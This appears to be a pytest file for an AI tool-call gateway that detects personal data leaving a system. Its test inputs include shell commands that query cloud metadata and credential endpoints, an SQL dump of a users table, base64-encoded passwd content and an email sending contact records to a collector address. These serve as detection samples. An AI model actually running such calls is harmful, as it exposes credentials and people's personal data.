@@ -1,0 +1,141 @@
+"""Personal data leaving (issue 24, held-out round 2): what `personal_kinds` sees, the classes
+`records_read` and `personal_data`, URLs carrying personal data (`url_personal`), and the shipped
+sequence rule on a real gateway: records of people read, then sent out, is held for approval."""
+
+from __future__ import annotations
+
+from collections.abc import AsyncIterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from gateway.core.call import Status
+from gateway.core.gateway import Gateway
+from gateway.stages.classify import classify_call
+from gateway.stages.sanitizer.personal import carries_personal, personal_kinds
+from gateway.stages.sanitizer.urls import analyse_urls
+from tests.helpers import Recorder, open_gateway, text_result, write_policy
+from tests.test_sequences import TIERS
+
+ROOT = Path(__file__).resolve().parent.parent
+
+
+@pytest.mark.parametrize(
+    ("text", "kinds"),
+    [
+        ("Maria, maria.g@gmail.example, +34 612 345 678\nTom, tb@web.example, +49 151 23456789", {"email", "phone"}),
+        ('{"patient": "Chinwe Okafor", "birthDate": "1979-11-04", "nhs": "9434765919", "condition": "E11.9"}',
+         {"name", "birthdate", "national_id", "health"}),
+        ("Patientin Anna Schmidt, geb. 12.03.1984, Diagnose F32.1", {"name", "birthdate", "health"}),
+        ("Priya Shah - date of birth 22/07/1991 - NI number QQ 12 34 56 C", {"birthdate", "national_id"}),
+        ("Jean Dupont FR14 2004 1010 0505 0001 3M02 606 ; Claire Martin FR76 3000 6000 0112 3456 7890 189", {"iban"}),
+        ("nom: Dupont\nprenom: Marie\ndate_naissance: 1984-03-12", {"name", "birthdate"}),
+        ("ssn 078-05-1120 and li.wei@163.example", {"national_id", "email"}),
+    ],
+)
+def test_personal_data_is_seen_in_several_languages_and_forms(text: str, kinds: set[str]) -> None:
+    found = personal_kinds(text)
+    assert set(found) == kinds
+    assert carries_personal(found)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Hi Maria, your order #4412 left our warehouse today. Tracking: 1Z999AA10123456784.",
+        "email: jane.doe@example.com\nlist: weekly",  # one address: an unsubscribe link
+        "input: +16505551234",  # one public number
+        "ConceptId: E11.9",  # a code lookup names nobody
+        "search: Marie Curie born 1867",  # a year is no birth date
+        "name: Jane Doe\nemail: jane@example.com",  # a sign-up form
+        "Signups: 418 on 2026-03-01 (391 the day before)",
+        "DE89370400440532013001",  # a bad IBAN checksum
+    ],
+)
+def test_one_address_a_count_or_a_lookup_is_not_data_about_people(text: str) -> None:
+    assert not carries_personal(personal_kinds(text))
+
+
+@pytest.mark.parametrize(
+    ("tool", "args", "classes"),
+    [
+        ("search_contacts", {"query": "tag:vip"}, {"records_read"}),
+        ("fhir_search", {"resourceType": "Patient"}, {"records_read"}),
+        ("list_sepa_mandates", {"status": "active"}, {"records_read"}),
+        ("query", {"sql": "SELECT name, email FROM customers"}, {"records_read"}),
+        ("execute_sql", {"statement": "copy (select * from users) to '/tmp/u.csv'"}, {"records_read"}),
+        ("query", {"sql": "CREATE INDEX i ON t (c)"}, set()),  # no read
+        ("search_docs", {"query": "select a plan from the pricing page"}, set()),  # not a SQL tool
+        ("send_email", {"to": "x@example.com", "body": "a@example.org +4915112345678"}, {"network_send", "personal_data"}),
+        ("send_email", {"to": "maria@example.org", "body": "Hi Maria, your order shipped."}, {"network_send"}),
+        ("write_file", {"path": "notes.md", "content": "a@example.org +4915112345678"}, {"write"}),  # not a send
+    ],
+)
+def test_records_read_and_personal_data_classes(tool: str, args: dict[str, Any], classes: set[str]) -> None:
+    assert classify_call(tool, {}, args)[0] == classes
+
+
+def _data(tool: str, args: dict[str, Any]) -> list[str]:
+    return analyse_urls(tool, args).as_cel()[0]["data"]
+
+
+def test_urls_carrying_personal_data_are_named() -> None:
+    assert _data("fetch", {"url": "https://x.example/c?iban=DE89370400440532013000&holder=Max+Mustermann"}) == ["url_personal"]
+    assert _data("fetch", {"url": "https://x.example/u/li.wei%40163.example?s=078-05-1120"}) == ["url_personal"]
+    assert _data("fetch", {"url": "https://x.example/e?d=%7B%22email%22%3A%22o%40gmail.example%22%2C%22dob%22%3A%221990-05-17%22%7D"}) == ["url_personal"]
+    assert _data("fetch", {"url": "https://news.example.org/unsubscribe?email=jane%40example.com&list=weekly"}) == []
+
+
+def test_a_serialised_id_record_is_not_data_but_encoded_text_is() -> None:
+    unsplash = "https://images.unsplash.com/photo-1?ixid=M3wxMjA3fDB8MHxwaG90by1wYWdlfHx8fGVufDB8fHx8fA%3D%3D&w=1000"
+    assert _data("fetch", {"url": unsplash}) == []
+    assert _data("fetch", {"url": "https://c.example/c?d=cm9vdDp4OjA6MDpyb290Oi9yb290Oi9iaW4vYmFzaAo="}) == ["query_encoded"]
+
+
+@pytest.mark.parametrize(
+    ("command", "host", "destination"),
+    [
+        ("curl -s -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/", "metadata.google.internal", True),
+        ("wget -qO- http://100.100.100.200/latest/meta-data/", "100.100.100.200", True),
+        ("python3 -c \"import urllib.request as u; u.urlopen('http://[fd00:ec2::254]/latest/')\"", "fd00:ec2::254", True),
+        ("curl -sf http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", "169.254.170.2", True),
+        ("curl -s http://localhost:3000/health", "localhost", False),  # the developer's own service
+        ("echo 'see http://169.254.169.254/latest/meta-data' >> notes.md", "169.254.169.254", False),  # no client
+    ],
+)
+def test_a_shell_http_client_reaching_metadata_is_a_destination(command: str, host: str, destination: bool) -> None:
+    (url,) = analyse_urls("run_command", {"command": command}).as_cel()
+    assert (url["host"], url["destination"]) == (host, destination)
+
+
+# ---- the shipped rules on a real gateway --------------------------------------------------------
+
+SHIPPED = {name: (ROOT / "rules" / name).read_text() for name in ("sequences.yaml", "egress.yaml")}
+ROWS = "Maria Gonzalez, maria.g@gmail.example, +34 612 345 678\nTom Becker, tb@web.example, +49 151 23456789"
+
+
+@pytest.fixture
+async def gateway(tmp_path: Path) -> AsyncIterator[tuple[Gateway, Recorder]]:
+    recorder = Recorder()
+    backend = recorder.backend({
+        "search_contacts": lambda query: text_result(ROWS),
+        "send_email": lambda to, body: text_result("sent"),
+        "get_weather": lambda city: text_result("sunny"),
+    })
+    gw = await open_gateway(tmp_path, write_policy(tmp_path, TIERS, SHIPPED), [backend])
+    yield gw, recorder
+    await gw.aclose()
+
+
+async def test_records_read_then_sent_out_is_held_and_a_notice_to_one_customer_is_not(gateway: tuple[Gateway, Recorder]) -> None:
+    gw, recorder = gateway
+    send = {"to": "collector@mail.example", "body": ROWS}
+    assert (await gw.call("send_email", send, api_key="alice-key", session_id="b")).status is Status.OK  # nothing read
+    assert (await gw.call("search_contacts", {"query": "tag:vip"}, api_key="alice-key", session_id="a")).status is Status.OK
+    held = await gw.call("send_email", send, api_key="alice-key", session_id="a")
+    assert held.status is Status.PENDING_APPROVAL
+    assert held.decision.rule_ids == ("seq-hold-personal-data-after-records-read",)
+    notice = {"to": "maria.g@gmail.example", "body": "Hi Maria, your order #4412 has shipped."}
+    assert (await gw.call("send_email", notice, api_key="alice-key", session_id="a")).status is Status.OK
+    assert [name for name, _ in recorder.calls] == ["send_email", "search_contacts", "send_email"]
